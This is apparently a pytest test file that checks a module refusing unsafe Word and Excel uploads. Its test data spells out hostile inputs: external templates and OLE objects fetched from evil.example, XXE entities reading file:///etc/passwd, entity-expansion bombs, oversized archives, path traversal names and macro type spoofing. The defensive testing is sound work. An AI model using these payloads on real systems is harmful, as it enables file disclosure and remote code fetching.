"""Office files that nobody should open: each is refused, with the reason (D7)."""

import io
import struct
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kernel.refusal import Refused
from printing import packages
from printing.fields import Kind
from tests.printing.papers import altered, letter, workbook

LETTER, BOOK = letter("{{ name }}"), workbook({"A1": "{{ name }}"})
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_RELATIONS = "word/_rels/document.xml.rels"


def refusal(content: bytes, kind: Kind = "docx") -> str:
    with pytest.raises(Refused) as refused:
        packages.parts(content, kind)
    return refused.value.code


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    one = f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    return altered(LETTER, {WORD_RELATIONS: ("</Relationships>", one)})


def test_plain_files_are_fine():
    assert "word/document.xml" in packages.parts(LETTER, "docx")
    assert "xl/workbook.xml" in packages.parts(BOOK, "xlsx")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"), ("oleObject", "http://evil.example/x"),
        ("image", "http://evil.example/x.png"), ("image", "file:///etc/passwd"), ("frame", "http://evil.example/"),
        ("subDocument", "x.docx"), ("aFChunk", "x.html"), ("mailMergeSource", "file://x"),
        ("hyperlink", "file:///c:/x.exe"), ("hyperlink", "javascript:alert(1)"), ("hyperlink", "\\\\host\\share"),
    ],
)  # fmt: skip
def test_what_points_outside_of_the_file_is_refused(kind: str, target: str):
    assert refusal(related(kind, target)) in {"template_outside", "template_program"}


@pytest.mark.parametrize("target", ["https://leadstream.example/", "mailto:a@x.vn", "tel:0912345678"])
def test_links_that_a_reader_clicks_are_fine(target: str):
    assert packages.parts(related("hyperlink", target), "docx")


@pytest.mark.parametrize("kind", ["oleObject", "package", "control", "vbaProject", "aFChunk", "attachedTemplate"])
def test_embedded_programs_and_objects_are_refused(kind: str):
    assert refusal(related(kind, "x.bin", "")) == "template_program"


def test_a_relation_inside_the_file_may_not_lead_out_of_it():
    assert refusal(related("image", "http://evil.example/x.png", "")) == "template_outside"


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin", "word/vbaData.xml.exe", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml",
        "word/embeddings/book.xlsx", "customUI/customUI.xml", "x.exe", "word/afchunk.html", "/etc/x.xml", "../x.xml",
        "word\\x.xml", "xl/externalLinks/externalLink1.xml", "xl/connections.xml", "word/media/a.svg",
    ],
)  # fmt: skip
@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_parts_that_run_or_hide_something_are_refused(name: str, kind: Kind):
    assert refusal(altered(LETTER if kind == "docx" else BOOK, {name: b"<x/>"}), kind) == "template_program"


def test_macros_are_refused_also_under_another_name():
    types = ("wordprocessingml.document.main+xml", "wordprocessingml.template.macroEnabledTemplate.main+xml")
    assert refusal(altered(LETTER, {"[Content_Types].xml": types})) == "template_program"
    vba = ('ContentType="image/jpeg"', 'ContentType="application/vnd.ms-office.vbaProject"')
    assert refusal(altered(LETTER, {"[Content_Types].xml": vba})) == "template_program"
    other = ("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml")
    assert refusal(altered(LETTER, {"[Content_Types].xml": other})) == "template_unreadable"


@pytest.mark.parametrize(
    "xml",
    [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', b"<!doctype x><x/>",
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><x/>',
        '<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="UTF-7"?><x/>', b'<?xml version="1.0" encoding="utf-16le"?><x/>',
    ],
)  # fmt: skip
def test_entities_and_outside_definitions_are_refused_in_every_part(xml: bytes):
    for name in ("word/document.xml", "docProps/app.xml", "customXml/item1.xml", "_rels/.rels", "word/new.xml"):
        assert refusal(altered(LETTER, {name: xml})) == "template_entities"


def test_a_picture_in_the_old_language_may_not_be_fetched():
    vml = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/></w:body>'
    assert refusal(altered(LETTER, {"word/document.xml": ("</w:body>", vml)})) == "template_outside"


def test_what_swells_is_refused_before_it_is_unpacked():
    assert refusal(altered(LETTER, {"word/media/a.png": bytes(30 << 20)})) == "template_too_large"
    assert refusal(altered(LETTER, {"word/media/a.png": bytes(2 << 20)})) == "template_too_large"
    assert refusal(altered(LETTER, {f"word/media/{n}.png": b"x" for n in range(501)})) == "template_too_large"


def test_a_part_that_lies_about_its_size_is_refused():
    content = bytearray(altered(LETTER, {"word/media/a.png": bytes(90_000)}))
    place = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/media/a.png"))
    content[place + 24 : place + 28] = struct.pack("<L", 10)
    assert refusal(bytes(content)) == "template_unreadable"


def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO(LETTER)
    with zipfile.ZipFile(out, "a") as opened:
        opened.writestr("word/Document.xml", "<x/>")
    assert refusal(out.getvalue()) == "template_unreadable"


def test_protected_and_foreign_files_are_refused():
    encrypted = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000)
    locked = bytearray(LETTER)
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = locked.find(mark)
        locked[at + place] |= 1
    for content in (encrypted, bytes(locked), b"", b"PK\x03\x04", BOOK, b"%PDF-1.7"):
        assert refusal(content) == "template_unreadable"


def test_deep_and_broken_xml_is_refused():
    assert refusal(altered(LETTER, {"word/document.xml": b"<x>"})) == "template_damaged"
    deep = b"<x>" * 5000 + b"</x>" * 5000
    assert refusal(altered(LETTER, {"word/new.xml": deep})) == "template_damaged"


@given(st.integers(0, len(LETTER) - 1), st.binary(min_size=1, max_size=8))
@settings(max_examples=60)
def test_a_damaged_file_is_refused_or_read_but_never_a_fault(place: int, noise: bytes):
    with suppress(Refused):
        packages.parts(LETTER[:place] + noise + LETTER[place + len(noise) :], "docx")
